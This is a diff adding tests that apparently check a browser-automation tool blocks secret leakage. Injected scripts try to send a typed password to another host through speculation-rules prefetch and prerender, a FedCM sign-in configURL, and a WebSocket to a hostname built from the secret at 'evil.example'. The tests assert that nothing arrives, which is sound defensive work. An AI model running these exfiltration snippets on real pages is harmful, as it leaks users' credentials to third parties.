@@ -376,6 +376,33 @@ describe("what the browser is about to send to another host", () => {
     expect(received()).toBe("");
   });
 
+  const rules = (kind: string) =>
+    `const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ ${kind}: [{ source: "list", eagerness: "immediate", urls: ["${other.url("/log")}?" + encodeURIComponent(document.querySelector("input").value)] }] }); document.head.append(rules); document.body.append("done")`;
+  const signIn = () =>
+    `const config = "${other.url("/log")}?" + encodeURIComponent(document.querySelector("input").value); Promise.resolve(navigator.credentials.get({ identity: { providers: [{ configURL: config, clientId: "1" }] } })).catch(() => {}).then(() => document.body.append("done"))`;
+  test.each<[string, () => string]>([
+    ["SpeculationRulesPrefetch", () => rules("prefetch")],
+    ["Prerender2", () => rules("prerender")],
+    ["FedCm", signIn],
+  ])("by %s is not sent", async (_, script) => {
+    const told = await runOn(
+      onClick(script().replaceAll("'", "")),
+      done,
+      { type: "wait", value: 1_000 },
+      list,
+    );
+    expect(received()).toBe("");
+    expectNothingOf(told, PASSWORD);
+  });
+
+  test("by the name of a host that only the browser's resolver would get, ends the run", async () => {
+    secrets.set("password", { value: "hunter-2-hunter", hosts: [] });
+    const socket = `new WebSocket("wss://" + document.querySelector("input").value + ".evil.example/")`;
+    const told = await runOn(onClick(socket), ending);
+    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
+    expect(told.failure?.message).toContain("was not sent to {{secret:password}}.evil.example");
+  });
+
   const open = (path: string, then: string) =>
     `const socket = new WebSocket("ws://${other.host}${path}"); ${then}`;
   const texts: Step = { type: "get_list", selector: "li", fields: [{ name: "text" }] };
